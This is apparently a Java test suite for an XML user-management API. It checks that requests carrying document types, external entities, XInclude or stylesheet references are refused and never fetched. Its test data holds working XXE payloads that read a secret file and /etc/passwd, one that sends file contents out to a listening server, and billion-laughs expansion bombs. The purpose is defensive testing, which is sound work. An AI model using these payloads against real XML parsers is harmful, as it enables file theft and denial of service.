package dev.roster.server.azurepack;

import static dev.roster.server.azurepack.PackErrorAssert.assertXmlError;
import static dev.roster.server.azurepack.PackWorld.USERS;
import static dev.roster.server.azurepack.PackWorld.newName;
import static dev.roster.server.azurepack.PackWorld.user;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.sun.net.httpserver.HttpServer;
import dev.roster.testing.Answer;
import dev.roster.testing.Covers;
import dev.roster.testing.DatabaseTestResource;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Documents that would make a careless reader of XML work for them, or fetch what they name. */
@QuarkusTest
@WithTestResource(DatabaseTestResource.class)
class XmlAttacksTest {

  private static final String NAMESPACE = "http://schemas.microsoft.com/windowsazure";
  private static final String SECRET = "secret@example.test";
  private static final String REFUSED =
      "The body is no XML element %s of the namespace " + NAMESPACE + " without a document type.";

  @TempDir private Path folder;

  @Inject PackWorld world;

  private HttpServer listening;
  private final List<String> fetched = new CopyOnWriteArrayList<>();

  @BeforeEach
  void listen() throws IOException {
    Files.writeString(folder.resolve("secret.txt"), SECRET);
    Files.writeString(folder.resolve("entities.dtd"), "<!ENTITY email \"%s\">".formatted(SECRET));
    listening = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    listening.createContext(
        "/",
        exchange -> {
          fetched.add(exchange.getRequestURI().toString());
          byte[] dtd = "<!ENTITY email \"%s\">".formatted(SECRET).getBytes(StandardCharsets.UTF_8);
          exchange.sendResponseHeaders(200, dtd.length);
          exchange.getResponseBody().write(dtd);
          exchange.close();
        });
    listening.start();
  }

  @AfterEach
  void stopListening() {
    listening.stop(0);
  }

  /** Entities each of which is ten of the one before. */
  private static String laughs(int levels) {
    StringBuilder entities = new StringBuilder("<!ENTITY e0 \"lol\">");
    for (int i = 1; i <= levels; i++) {
      String tenfold = ("&e" + (i - 1) + ";").repeat(10);
      entities.append("<!ENTITY e").append(i).append(" \"").append(tenfold).append("\">");
    }
    return "<!DOCTYPE User [" + entities + "]>";
  }

  /**
   * A document type and an address that uses what it declares. {@code FILES} stands for the URL of
   * a folder with a secret, {@code SERVER} for that of a server that waits to be asked.
   */
  static Stream<Map.Entry<String, String>> attacks() {
    return Stream.of(
        Map.entry("<!DOCTYPE User>", "a@x"),
        Map.entry("<!DOCTYPE User []>", "a@x"),
        Map.entry("<!DOCTYPE anything [<!ELEMENT User ANY>]>", "a@x"),
        Map.entry("<!DOCTYPE User [<!ATTLIST User a CDATA 'b'>]>", "a@x"),
        Map.entry("<!DOCTYPE User [<!ENTITY email 'a@x'>]>", "a@x"),
        Map.entry("<!DOCTYPE User [<!ENTITY email 'a@x'>]>", "&email;"),
        Map.entry("<!DOCTYPE User [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>", "&a;"),
        Map.entry(laughs(3), "&e3;"),
        Map.entry(laughs(9), "&e9;"),
        Map.entry(laughs(9), "a@x"),
        Map.entry(
            "<!DOCTYPE User [<!ENTITY e '" + "x".repeat(100_000) + "'>]>", "&e;".repeat(10_000)),
        Map.entry("<!DOCTYPE User [<!ENTITY email SYSTEM 'FILES/secret.txt'>]>", "&email;"),
        Map.entry("<!DOCTYPE User [<!ENTITY email SYSTEM 'file:///etc/passwd'>]>", "&email;"),
        Map.entry("<!DOCTYPE User [<!ENTITY email SYSTEM 'SERVER/entity'>]>", "&email;"),
        Map.entry("<!DOCTYPE User [<!ENTITY email SYSTEM 'SERVER/unused'>]>", "a@x"),
        Map.entry("<!DOCTYPE User [<!ENTITY email PUBLIC 'x' 'SERVER/public'>]>", "&email;"),
        Map.entry(
            "<!DOCTYPE User [<!NOTATION n SYSTEM 'SERVER/n'>"
                + "<!ENTITY e SYSTEM 'SERVER/unparsed' NDATA n>]>",
            "a@x"),
        Map.entry("<!DOCTYPE User SYSTEM 'FILES/entities.dtd'>", "&email;"),
        Map.entry("<!DOCTYPE User SYSTEM 'SERVER/subset.dtd'>", "&email;"),
        Map.entry("<!DOCTYPE User SYSTEM 'SERVER/subset.dtd' []>", "a@x"),
        Map.entry("<!DOCTYPE User PUBLIC '-//X//Y' 'SERVER/public.dtd'>", "&email;"),
        Map.entry("<!DOCTYPE User [<!ENTITY % p SYSTEM 'FILES/entities.dtd'> %p;]>", "&email;"),
        Map.entry("<!DOCTYPE User [<!ENTITY % p SYSTEM 'SERVER/parameter'> %p;]>", "&email;"),
        Map.entry("<!DOCTYPE User [<!ENTITY % p SYSTEM 'SERVER/parameter'> %p;]>", "a@x"),
        Map.entry(
            "<!DOCTYPE User [<!ENTITY % f SYSTEM 'FILES/secret.txt'>"
                + "<!ENTITY % p \"<!ENTITY &#37; q SYSTEM 'SERVER/?%f;'>\"> %p; %q;]>",
            "a@x"),
        Map.entry("<!DOCTYPE User [<!ENTITY % p '<!ENTITY email \"a@x\">'> %p;]>", "&email;"));
  }

  @ParameterizedTest
  @MethodSource("attacks")
  @Covers({"pack.common.xml-attacks", "pack.common.no-server-errors"})
  void documentTypeIsRefusedAndNothingOfItResolved(Map.Entry<String, String> attack) {
    String name = newName();
    String known = world.newUser();
    JsonNode before = world.read(known);
    String declared =
        "<?xml version=\"1.0\"?>"
            + attack
                .getKey()
                .replace("FILES", folder.toUri().toString().replaceAll("/$", ""))
                .replace("SERVER", "http://localhost:" + listening.getAddress().getPort());

    assertRefused(
        world.xml("POST", USERS, declared + element(name, attack.getValue())).send(),
        "POST",
        USERS,
        "User");
    assertRefused(
        world.xml("PUT", user(known), declared + element(known, attack.getValue())).send(),
        "PUT",
        user(known),
        "User");
    assertRefused(
        world
            .xml(
                "POST",
                "/invalidusertokens",
                declared
                    + ("<UserToken xmlns=\"%s\"><Username>%s</Username>"
                            + "<TokenExpiryTime>2013-06-28T05:15:30</TokenExpiryTime></UserToken>")
                        .formatted(NAMESPACE, attack.getValue()))
            .send(),
        "POST",
        "/invalidusertokens",
        "UserToken");

    assertThat(world.get(user(name)).status()).isEqualTo(404);
    assertThat(world.read(known)).isEqualTo(before);
    assertThat(fetched).isEmpty();
  }

  private static String element(String name, String email) {
    return "<User xmlns=\"%s\"><Name>%s</Name><Email>%s</Email><State>Active</State></User>"
        .formatted(NAMESPACE, name, email);
  }

  private static void assertRefused(Answer answer, String method, String path, String root) {
    assertXmlError(answer, method, path, 400, "InvalidInput", REFUSED.formatted(root));
    assertThat(answer.text()).doesNotContain(SECRET);
  }

  @Test
  @Covers("pack.common.xml-attacks")
  void otherReferencesToAnotherPlaceAreNotFollowed() {
    String name = newName();
    String server = "http://localhost:" + listening.getAddress().getPort();
    String document =
        """
        <?xml version="1.0"?>
        <?xml-stylesheet type="text/xsl" href="%2$s/style"?>
        <User xmlns="%1$s" xmlns:i="http://www.w3.org/2001/XMLSchema-instance"
            i:schemaLocation="%1$s %2$s/schema" xml:base="%2$s/base/">
          <i:include xmlns:i="http://www.w3.org/2001/XInclude" href="%2$s/include"/>
          <Name>%3$s</Name><Email>a@x</Email><State>Active</State>
        </User>
        """
            .formatted(NAMESPACE, server, name);

    Answer created = world.xml("POST", USERS, document).send();

    assertThat(created.status()).as(created.text()).isEqualTo(201);
    assertThat(PackXml.read("POST", USERS, created).get("Email").asText()).isEqualTo("a@x");
    assertThat(fetched).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<!DOCTYPE x [",
        "<!DOCTYPE x [\u0001",
        "<!DOCTYPE x [\u0001]><x/>",
        "<!DOCTYPE x [<!ENTITY",
        "<!DOCTYPE \u0001",
        "\u0001",
        "<?x \u0001?>",
        "<!-- \u0001 -->",
        "<x \u0001",
        "<x a='\u0001'/>",
        "<x>\u0001</x>",
        "<x>&#1;</x>",
        "<x>&#x110000;</x>",
        "<x><![CDATA[\u0001]]></x>",
        "<?xml version=\"9.9\"?><x/>",
        "<?xml version=\"1.0\" encoding=\"none\"?><x/>",
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?><x/>"
      })
  @Covers({"pack.common.body-malformed", "pack.common.no-server-errors"})
  void brokenDocumentIsRefused(String document) {
    String known = world.newUser();
    JsonNode before = world.read(known);

    assertRefused(world.xml("POST", USERS, document).send(), "POST", USERS, "User");
    assertRefused(world.xml("PUT", user(known), document).send(), "PUT", user(known), "User");
    assertRefused(
        world.xml("POST", "/invalidusertokens", document).send(),
        "POST",
        "/invalidusertokens",
        "UserToken");

    assertThat(world.read(known)).isEqualTo(before);
  }
}
